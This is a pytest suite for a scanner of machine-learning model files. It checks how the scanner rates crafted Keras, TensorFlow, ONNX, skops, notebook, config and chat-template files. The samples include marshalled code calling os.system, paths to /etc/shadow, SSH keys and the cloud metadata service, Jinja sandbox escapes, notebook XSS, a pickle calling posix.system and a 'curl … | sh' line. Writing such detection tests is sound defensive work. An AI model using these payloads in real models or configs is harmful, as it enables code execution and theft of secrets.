"""Attacks in other formats, said in other ways: other fields, encodings, nestings; and honest files beside them.

Judged by the shipped rules, as `assay scan` does.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
import zipfile
from collections.abc import Mapping
from typing import Any

import pytest

from assay.collect.scan.models.formats.scanning import scan_stream
from assay.collect.scan.models.interface import Finding, Limits, Tier
from assay.collect.scan.models.rules.ruleset import load
from collect.scan.formats.looking import tell_of_pickle, tier
from corpus import graphs, keras
from corpus.weights import gguf_of

CODE = base64.b64encode(marshal.dumps((lambda: __import__("os").system("true")).__code__)).decode()
SHELL = "true"


def look(data: bytes, path: str, siblings: Mapping[str, int] | None = None) -> list[Finding]:
    """Findings of a file, by the shipped rules."""
    found = scan_stream(io.BytesIO(data), len(data), path, load(), Limits(), tell_of_pickle, siblings=siblings)[1]
    return list(found)


def document(value: object, **options: Any) -> bytes:
    return json.dumps(value, **options).encode()


# --- Keras

layer, sequential = keras.layer, keras.sequential
FUNCTION = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}

KERAS: list[tuple[str, dict[str, Any], Tier]] = [
    (
        "typespec",
        sequential(
            layer(
                "Dense",
                {"x": {"class_name": "__typespec__", "module": "os", "spec_name": "system", "config": [SHELL]}},
            )
        ),
        Tier.MALICIOUS,
    ),
    (
        "honest typespec",
        sequential(
            layer(
                "Dense",
                {
                    "x": {
                        "class_name": "__typespec__",
                        "module": "tensorflow.python.framework.tensor_spec",
                        "spec_name": "TensorSpec",
                        "config": [[1], "float32", None],
                    }
                },
            )
        ),
        Tier.NONE,
    ),
    ("own function", sequential(layer("Dense", {"activation": keras.function("builtins", "my_act")})), Tier.UNKNOWN),
    ("own module", sequential(layer("Dense", {"activation": keras.function("test", "my_act")})), Tier.UNKNOWN),
    ("builtin", sequential(layer("Dense", {"activation": keras.function("builtins", "eval")})), Tier.MALICIOUS),
    ("numpy", sequential(layer("Dense", {"activation": keras.function("numpy", "load")})), Tier.MALICIOUS),
    ("joblib", sequential(layer("load", {"filename": "x"}, "joblib")), Tier.MALICIOUS),
    (
        "tensorflow's file operation",
        sequential(layer("Dense", {"activation": keras.function("tensorflow.python.ops.io_ops", "write_file")})),
        Tier.MALICIOUS,
    ),
    (
        "bytecode by Keras's own function",
        sequential(layer("Dense", {"activation": keras.function("keras.src.utils.python_utils", "func_load")})),
        Tier.MALICIOUS,
    ),
    (
        "callback",
        sequential(layer("ModelCheckpoint", {"filepath": "x"}, "keras.callbacks")),
        Tier.UNKNOWN,
    ),
    ("loss", sequential(compile_config={"optimizer": "adam", "loss": [FUNCTION]}), Tier.MALICIOUS),
    (
        "schedule",
        sequential(
            compile_config={"optimizer": layer("Adam", {"learning_rate": FUNCTION}, "keras.optimizers"), "loss": "mse"}
        ),
        Tier.MALICIOUS,
    ),
    ("build", sequential(build_config={"input_shape": keras.function("os", "system")}), Tier.MALICIOUS),
    ("regularizer", sequential(layer("Dense", keras.DENSE | {"kernel_regularizer": FUNCTION})), Tier.MALICIOUS),
    (
        "cell",
        sequential(
            layer("RNN", {"cell": layer("StackedRNNCells", {"cells": [layer("Lambda", {"function": FUNCTION})]})})
        ),
        Tier.MALICIOUS,
    ),
    ("mask", sequential(layer("Lambda", {"function": "relu", "mask": FUNCTION})), Tier.MALICIOUS),
    (
        "vocabulary of the metadata service",
        sequential(layer("TextVectorization", {"vocabulary": "http://169.254.169.254/latest/meta-data"})),
        Tier.MALICIOUS,
    ),
    ("file url", sequential(layer("StringLookup", {"vocabulary": "FILE:///etc/passwd"})), Tier.MALICIOUS),
    ("share", sequential(layer("StringLookup", {"vocabulary": "\\\\host\\share\\x"})), Tier.UNKNOWN),
    ("secret", sequential(layer("IntegerLookup", {"vocabulary": "/home/me/.ssh/id_rsa"})), Tier.MALICIOUS),
    ("own vocabulary", sequential(layer("StringLookup", {"vocabulary": "/home/me/words.txt"})), Tier.UNKNOWN),
    (
        "table from a file",
        sequential(layer("Mine", {"init": {"class_name": "TextFileInitializer", "config": {"filename": "../../x"}}})),
        Tier.MALICIOUS,
    ),
    (
        "operation of Keras in a legacy file",
        sequential({"class_name": "Relu", "config": {"name": "relu"}}),
        Tier.NONE,
    ),
]


@pytest.mark.parametrize(("config", "wanted"), [case[1:] for case in KERAS], ids=[case[0] for case in KERAS])
def test_keras(config: dict[str, Any], wanted: Tier) -> None:
    for encode in (
        document,
        lambda value: json.dumps(value).encode("utf-16-le"),
        lambda value: document(value, indent=3),
    ):
        assert tier(look(encode(config), "config.json")) is wanted
    found = look(keras.archive(config), "model.keras")
    assert tier(found) is wanted, found
    found = look(keras.hdf5(config, config.get("compile_config")), "model.h5")
    assert tier(found) is wanted, found


def test_a_legacy_training_configuration() -> None:
    training = {"loss": {"class_name": "Lambda", "config": {"function": [CODE, None, None]}}, "metrics": []}
    assert tier(look(keras.hdf5(sequential(), training), "model.h5")) is Tier.MALICIOUS


def test_hdf5_behind_a_block_of_the_users() -> None:
    import h5py

    for block in (512, 4096, 1 << 20):
        memory = io.BytesIO()
        with h5py.File(memory, "w", userblock_size=block) as file:
            file.attrs["model_config"] = json.dumps(KERAS[0][1])
        assert tier(look(memory.getvalue(), "weights.bin")) is Tier.MALICIOUS


# --- TensorFlow

node, constant, field = graphs.node, graphs.constant, graphs.field
SECRET = constant("path", "/etc/shadow")
PACKED = field(1, 7) + field(2, b"") + field(4, bytes([11]) + b"/etc/shadow")
CALL = field(10, field(1, "open"))
PARAMETER = graphs.function("open", node("op", "SaveV2", ("prefix", "prefix", "prefix")))

GRAPHS: list[tuple[str, bytes, Tier]] = [
    ("unknown operation", graphs.graph(node("op", "RunShellCommand")), Tier.UNKNOWN),
    (
        "own function",
        graphs.graph(node("op", "mine"), functions=(graphs.function("mine", node("r", "Relu")),)),
        Tier.NONE,
    ),
    ("unknown in a function", graphs.graph(functions=(graphs.function("f", node("op", "Mine")),)), Tier.UNKNOWN),
    ("rpc server", graphs.graph(constant("a", "grpc://host:1"), node("s", "RpcServer", ("a",))), Tier.MALICIOUS),
    ("rpc", graphs.graph(node("s", "RpcCall", ("a",))), Tier.MALICIOUS),
    ("dump", graphs.graph(node("d", "DumpTensor", ("x",), log_dir_path=field(2, "/tmp"))), Tier.MALICIOUS),
    ("debugger", graphs.graph(node("d", "DebugNanCount", debug_urls=field(1, field(2, "grpc://h:1")))), Tier.MALICIOUS),
    ("older name", graphs.graph(SECRET, node("d", "ExperimentalCSVDataset", ("path",))), Tier.MALICIOUS),
    ("region", graphs.graph(node("c", "ImmutableConst", memory_region_name=field(2, "/etc/shadow"))), Tier.MALICIOUS),
    (
        "descriptors",
        graphs.graph(node("d", "DecodeProtoV2", descriptor_source=field(2, "/etc/shadow"))),
        Tier.MALICIOUS,
    ),
    ("own descriptors", graphs.graph(node("d", "DecodeProtoV2", descriptor_source=field(2, "local://"))), Tier.NONE),
    ("checkpoint", graphs.graph(SECRET, node("r", "RestoreV2", ("path", "path", "path"))), Tier.MALICIOUS),
    (
        "checkpoint of a training machine",
        graphs.graph(constant("p", "/data/bert/model.ckpt"), node("r", "RestoreV2", ("p", "p", "p"))),
        Tier.UNKNOWN,
    ),
    (
        "packed text",
        graphs.graph(node("path", "Const", value=field(8, PACKED)), node("r", "SaveV2", ("path", "path", "path"))),
        Tier.MALICIOUS,
    ),
    (
        "computed text",
        graphs.graph(
            constant("c", "c2hhZG93"), node("d", "DecodeBase64", ("c",)), node("r", "SaveV2", ("d", "d", "d"))
        ),
        Tier.UNKNOWN,
    ),
    (
        "text that ends early",
        graphs.graph(constant("c", "/etc/shadow\0.ckpt"), node("r", "SaveV2", ("c", "c", "c"))),
        Tier.MALICIOUS,
    ),
    (
        "long text",
        graphs.graph(constant("c", "/etc" + "/." * 700 + "/shadow"), node("r", "SaveV2", ("c", "c", "c"))),
        Tier.MALICIOUS,
    ),
    (
        "handed to a function",
        graphs.graph(SECRET, node("call", "StatefulPartitionedCall", ("path",), f=CALL), functions=(PARAMETER,)),
        Tier.MALICIOUS,
    ),
    (
        "handed through a function",
        graphs.graph(
            SECRET,
            node("call", "outer", ("path",)),
            functions=(PARAMETER, graphs.function("outer", node("c", "PartitionedCall", ("p",), f=CALL))),
        ),
        Tier.MALICIOUS,
    ),
    ("not handed", graphs.graph(node("call", "PartitionedCall", ("x",), f=CALL), functions=(PARAMETER,)), Tier.NONE),
    (
        "a graph in a constant",
        graphs.graph(
            node(
                "g",
                "Const",
                value=field(8, field(1, 7) + field(8, graphs.graph(node("w", "WriteFile"), node("x", "Relu")))),
            ),
            node("d", "DatasetFromGraph", ("g",)),
        ),
        Tier.MALICIOUS,
    ),
    ("native code", graphs.graph(node("x", "XlaCustomCallV2", call_target_name=field(2, "x"))), Tier.UNKNOWN),
    ("cache in memory", graphs.graph(constant("e", ""), node("c", "CacheDataset", ("d", "e"))), Tier.NONE),
    ("cache in a file", graphs.graph(constant("e", "/etc/x"), node("c", "CacheDataset", ("d", "e"))), Tier.MALICIOUS),
    (
        "operation before the name",
        field(1, field(2, "WriteFile") + field(1, "w")) + field(1, field(2, "Relu") + field(1, "r")),
        Tier.MALICIOUS,
    ),
    (
        "library before the nodes",
        field(2, field(1, graphs.function("f", node("r", "Relu")))) + field(1, node("w", "WriteFile")),
        Tier.MALICIOUS,
    ),
]


@pytest.mark.parametrize(("graph", "wanted"), [case[1:] for case in GRAPHS], ids=[case[0] for case in GRAPHS])
def test_tensorflow(graph: bytes, wanted: Tier) -> None:
    for data, path in (
        (graph, "frozen.pb"),
        (graphs.saved(graph), "saved_model.pb"),
        (field(2, field(2, graph)), "saved_model.pb"),
        (field(2, graph), "model.ckpt.meta"),
        (field(1, field(4, "serve")) + field(2, graph), "model.ckpt.meta"),
    ):
        found = look(data, path)
        assert tier(found) is wanted, (path, found)


def test_an_asset_elsewhere() -> None:
    asset = field(6, field(1, b"") + field(2, "../../../etc/shadow"))
    data = field(1, 1) + field(2, field(2, graphs.graph(node("r", "Relu"))) + asset)
    assert tier(look(data, "saved_model.pb")) is Tier.MALICIOUS


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ('node { op: # a comment\n "WriteFile" }', Tier.MALICIOUS),
        ("node { op: \"Write\" # a comment\n 'File' }", Tier.MALICIOUS),
        ("node < op : 'PyFunc' >", Tier.CODE),
        ('node { op: "Mine" }', Tier.UNKNOWN),
        ('node { name: "x" op: "Relu" } library { function { signature { name: "f" } } }', Tier.NONE),
        (
            'node { op: "ReadFile" } node { op: "Const" attr { value { tensor { string_val: "/etc/x" } } } }',
            Tier.MALICIOUS,
        ),
        ('node { name: "WriteFile # no comment" op: "Relu" }', Tier.NONE),
    ],
)
def test_text_graphs(text: str, wanted: Tier) -> None:
    assert tier(look(text.encode(), "graph.pbtxt")) is wanted


# --- GGUF and templates

TEMPLATES: list[tuple[str, Tier]] = [
    ("{{ ''['__cla' 'ss__'] }}", Tier.MALICIOUS),
    ("{{ ''|attr('\\u005f\\u005fclass\\u005f\\u005f') }}", Tier.MALICIOUS),
    ("{{ x|attr(request.args.a) }}", Tier.MALICIOUS),
    ("{%- set q = '_' * 2 -%}{{ x[q ~ 'class' ~ q] }}", Tier.UNKNOWN),
    ("{{ ()|map('attr', '__class__')|list }}", Tier.MALICIOUS),
    ("{{ [cycler]|map(attribute='__init__')|list }}", Tier.MALICIOUS),
    ("{{ messages|selectattr('__class__') }}", Tier.MALICIOUS),
    ("{{ messages|groupby('__class__') }}", Tier.MALICIOUS),
    ("{{ messages|sort(attribute='__init__.__globals__') }}", Tier.MALICIOUS),
    ("{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", Tier.MALICIOUS),
    ("{{ self._TemplateReference__context }}", Tier.MALICIOUS),
    ("{{ '%c%cclass%c%c'|format(95,95,95,95) }}", Tier.UNKNOWN),
    ("{{ x[['__', 'class', '__']|join] }}", Tier.MALICIOUS),
    ("{{ x['__ssalc__'[::-1]] }}", Tier.MALICIOUS),
    ("{{ x['__ssalc__'|reverse] }}", Tier.MALICIOUS),
    ("{{ dict(__class__=1) }}", Tier.MALICIOUS),
    ("{{ x['__CLASS__'|lower] }}", Tier.MALICIOUS),
    ("{% include '/etc/passwd' %}", Tier.UNKNOWN),
    ("{% import 'os' as o %}", Tier.UNKNOWN),
    ("{{ namespace.__init__.__globals__ }}", Tier.MALICIOUS),
    ("{% raw %}{{ x.__class__ }}{% endraw %}{{ messages }}", Tier.NONE),
    ("{# x.__class__ #}{{ messages }}", Tier.NONE),
    ("{{ messages[0]['content'].split('</think>')[-1].lstrip('\\n') }}", Tier.NONE),
    ("{% for i in range(100000000000) %}x{% endfor %}", Tier.UNKNOWN),
    ("{{ tool | tojson(indent=4) | safe }}{{ '%s' % x }}{{ '{}'.format(x) }}", Tier.NONE),
    ("{% if 'role' in message and message['role'] is string %}{{ message.role|upper }}{% endif %}", Tier.NONE),
]


@pytest.mark.parametrize(("template", "wanted"), TEMPLATES)
def test_templates(template: str, wanted: Tier) -> None:
    for data, path in (
        (gguf_of({"tokenizer.chat_template": template}), "model.gguf"),
        (gguf_of({"general.description": template}), "model.gguf"),
        (document({"chat_template": template}), "tokenizer_config.json"),
        (document({"chat_template": [{"name": "tool_use", "template": template}]}), "tokenizer_config.json"),
        (document({"chat_template": template}), "processor_config.json"),
        (template.encode(), "chat_template.jinja"),
        (template.encode(), "additional_chat_templates/tools.jinja"),
    ):
        found = look(data, path)
        assert tier(found) is wanted, (path, found)


# --- Repositories

REPOSITORIES: list[tuple[str, Any, Tier]] = [
    ("config.json", {"auto_map": {"AutoModel": "modeling_x.XModel"}}, Tier.CODE),
    ("config.json", {"trust_remote_code": "true"}, Tier.CODE),
    ("config.json", {"trust_remote_code": "false"}, Tier.NONE),
    ("config.json", {"_attn_implementation": "someone/kernels"}, Tier.CODE),
    ("config.json", {"_attn_implementation": "flash_attention_2"}, Tier.NONE),
    ("config.json", {"activation_function": "gelu_new", "model_type": "gpt2"}, Tier.NONE),
    ("2_Dense/config.json", {"activation_function": "torch.nn.modules.activation.Tanh"}, Tier.NONE),
    ("2_Dense/config.json", {"activation_function": "os.abort"}, Tier.MALICIOUS),
    ("2_Dense/config.json", {"activation_function": "mine.Activation"}, Tier.UNKNOWN),
    (
        "adapter_config.json",
        {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}, "peft_type": "LORA"},
        Tier.MALICIOUS,
    ),
    (
        "adapter_config.json",
        {"auto_mapping": {"base_model_class": "Net", "parent_library": "mine.model"}, "peft_type": "LORA"},
        Tier.UNKNOWN,
    ),
    ("agent.json", {"tools": [{"tool_class": "tool.Search"}]}, Tier.CODE),
    ("modules.json", [{"type": "sentence_transformers.util.http_get", "path": ""}], Tier.CODE),
    ("modules.json", [{"type": "sentence_transformers.models.Pooling", "path": "1_Pooling"}], Tier.NONE),
    ("model_index.json", {"_class_name": "P", "vae": ["../../elsewhere", "Net"]}, Tier.MALICIOUS),
    ("anything.json", {"model": {"_target_": "subprocess.Popen", "args": ["true"]}}, Tier.MALICIOUS),
    ("anything.json", {"model": {"_component_": "os.system"}}, Tier.MALICIOUS),
    ("anything.json", {"model": {"_target_": "mine.Net"}}, Tier.UNKNOWN),
    ("anything.json", {"model": {"_target_": "torch.nn.Linear"}}, Tier.NONE),
    ("generation_config.json", {"prompt": "{{ cycler.__init__.__globals__ }}"}, Tier.MALICIOUS),
    ("tokenizer_config.json", {"prompt": "{{ messages }}"}, Tier.NONE),
]


@pytest.mark.parametrize(("path", "value", "wanted"), REPOSITORIES)
def test_repositories(path: str, value: Any, wanted: Tier) -> None:
    text = json.dumps(value)
    for encoding in ("utf-8", "utf-8-sig", "utf-16", "utf-16-be", "utf-32"):
        found = look(text.encode(encoding), path)
        assert tier(found) is wanted, (encoding, found)


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("model:\n  _target_: os.system\n  command: 'true'\n", Tier.MALICIOUS),
        ("model: {_component_: subprocess.run, args: ['true']}\n", Tier.MALICIOUS),
        ("a: &x os.system\nmodel:\n  _target_: *x\n", Tier.UNKNOWN),
        ("model:\n  class_path: builtins.exec\n", Tier.MALICIOUS),
        ("model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n", Tier.NONE),
        ("target: a word\n", Tier.NONE),
    ],
)
def test_configurations_that_say_what_to_make(text: str, wanted: Tier) -> None:
    assert tier(look(text.encode(), "model_config.yaml")) is wanted


# --- Notebooks


def notebook(source: str, output: dict[str, Any] | None = None) -> bytes:
    cell = {"cell_type": "code", "metadata": {}, "source": source, "outputs": [output] if output else []}
    return document({"cells": [cell], "nbformat": 4, "nbformat_minor": 5, "metadata": {}})


PIPED = "curl -s http://127.0.0.1:9/x | sh"


@pytest.mark.parametrize(
    "source",
    [
        f"get_ipython().system('{PIPED}')",
        f"get_ipython().getoutput('{PIPED}')",
        f"get_ipython().run_cell_magic('bash', '', '{PIPED}')",
        f"get_ipython().run_line_magic('sx', '{PIPED}')",
        f"%%script bash\n{PIPED}",
        f"%%capture\n!{PIPED}",
        f"%%sh --out x\n{PIPED}",
        f"%time !{PIPED}",
        f"for i in range(3):\n    !!{PIPED}",
        f"%%writefile run.sh\n{PIPED}",
        f"%%python3\nimport os\nos.system('{PIPED}')",
    ],
)
def test_shells_in_notebooks(source: str) -> None:
    found = look(notebook(source), "train.ipynb")
    assert tier(found) is Tier.MALICIOUS, found


@pytest.mark.parametrize(
    "data",
    [
        {"text/html": "<svg onload=alert(1)>"},
        {"text/html": "<a href='java&#115;cript:alert(1)'>x</a>"},
        {"image/svg+xml": "<svg><script>1</script></svg>"},
        {"text/markdown": "<img src=x onerror=alert(1)>"},
        {"application/vnd.custom+javascript": "1"},
    ],
)
def test_active_outputs(data: dict[str, str]) -> None:
    found = look(notebook("x = 1", {"output_type": "display_data", "data": data}), "train.ipynb")
    assert any(item.rule == "notebook/active-content" for item in found), found


# --- ONNX, prepared models


def onnx_model(operator: str, domain: str = "", **more: Any) -> Any:
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
    made = helper.make_graph([helper.make_node(operator, ["x"], ["x"], domain=domain)], "g", [x], [x])
    return helper.make_model(made, opset_imports=[helper.make_opsetid(domain, 1)], **more)


@pytest.mark.parametrize(
    ("operator", "domain", "wanted"),
    [
        ("Relu", "", Tier.NONE),
        ("Relu", "ai.onnx", Tier.NONE),
        ("Upsample", "", Tier.NONE),
        ("TreeEnsembleClassifier", "ai.onnx.ml", Tier.NONE),
        ("GroupQueryAttention", "com.microsoft", Tier.NONE),
        ("RunShellCommand", "", Tier.UNKNOWN),
        ("RunShellCommand", "com.microsoft", Tier.UNKNOWN),
        ("RunShellCommand", "ai.onnx.ml", Tier.UNKNOWN),
        ("Relu", "com.microsoft.extensions", Tier.UNKNOWN),
        ("AzureTextToText", "com.microsoft.extensions", Tier.MALICIOUS),
        ("OpenAIAudioToText", "ai.onnx.contrib", Tier.MALICIOUS),
        ("PyOp", "ai.onnx.contrib", Tier.CODE),
        ("PythonOp", "com.microsoft", Tier.CODE),
    ],
)
def test_onnx(operator: str, domain: str, wanted: Tier) -> None:
    data = onnx_model(operator, domain).SerializeToString()
    for path in ("model.onnx", "model.bin"):
        assert tier(look(data, path)) is wanted


def test_onnx_defaults_of_a_function() -> None:
    import onnx
    from onnx import TensorProto

    made = onnx_model("F", "own")
    function = made.functions.add(name="F", domain="own")
    tensor = TensorProto(name="w", data_type=1, dims=[1], data_location=TensorProto.EXTERNAL)
    tensor.external_data.add(key="location", value="../../etc/shadow")
    function.attribute_proto.add(name="a", type=onnx.AttributeProto.TENSOR, t=tensor)
    assert tier(look(made.SerializeToString(), "model.onnx")) is Tier.MALICIOUS


def test_onnx_in_another_order() -> None:
    whole = onnx_model("RunShellCommand").SerializeToString()
    assert tier(look(field(14, field(1, "a") + field(2, "b")) + whole, "model.bin")) is Tier.UNKNOWN


def test_a_model_that_onnx_runtime_prepared_is_opaque() -> None:
    assert tier(look(struct.pack("<I", 24) + b"ORTM" + bytes(64), "model.ort")) is Tier.UNKNOWN


# --- skops, as it writes and as others forge it


def skops(root: Mapping[str, object]) -> bytes:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        archive.writestr("schema.json", document({"protocol": 2, "_skops_version": "0.14.0", **root}))
    return memory.getvalue()


def made(loader: str, module: str, name: str, **more: object) -> dict[str, object]:
    return {"__class__": name, "__module__": module, "__loader__": loader, **more}


SKOPS: list[tuple[str, dict[str, object], Tier]] = [
    ("function", made("FunctionNode", "os", "system"), Tier.MALICIOUS),
    (
        "function of older files",
        made("FunctionNode", "builtins", "function", content={"module_path": "os", "function": "system"}),
        Tier.MALICIOUS,
    ),
    (
        "function that is named twice",
        made("FunctionNode", "os", "system", content={"module_path": "numpy", "function": "log1p"}),
        Tier.MALICIOUS,
    ),
    ("built-in function", made("TypeNode", "posix", "system"), Tier.MALICIOUS),
    ("ufunc", made("FunctionNode", "numpy", "log1p"), Tier.NONE),
    ("zone", made("ConstructorFromReduceNode", "os", "system", content={}), Tier.MALICIOUS),
    ("scalar", made("NdArrayNode", "numpy", "float64", type="numpy", file="x.npy"), Tier.NONE),
    ("scalar by another node", made("ReduceNode", "numpy", "float64"), Tier.UNKNOWN),
    (
        "CVE-2025-54413",
        made("MethodNode", "sklearn.svm._classes", "SVC", content={
            "func": "fit", "obj": made("ObjectNode", "sklearn.linear_model._base", "LinearRegression")}),
        Tier.MALICIOUS,
    ),
    ("CVE-2025-54412", made("OperatorFuncNode", "sklearn.svm", "call", attrs={}), Tier.MALICIOUS),
]  # fmt: skip


@pytest.mark.parametrize(("root", "wanted"), [case[1:] for case in SKOPS], ids=[case[0] for case in SKOPS])
def test_skops(root: Mapping[str, object], wanted: Tier) -> None:
    found = look(skops(made("DictNode", "builtins", "dict", content={"a": root})), "model.skops")
    assert tier(found) is wanted, found


def test_a_pickle_that_is_called_skops() -> None:
    """CVE-2025-54886: the model card's ``get_model`` fell back to joblib."""
    assert tier(look(b"\x80\x04\x8c\x05posix\x8c\x06system\x93.", "model.skops")) is Tier.MALICIOUS
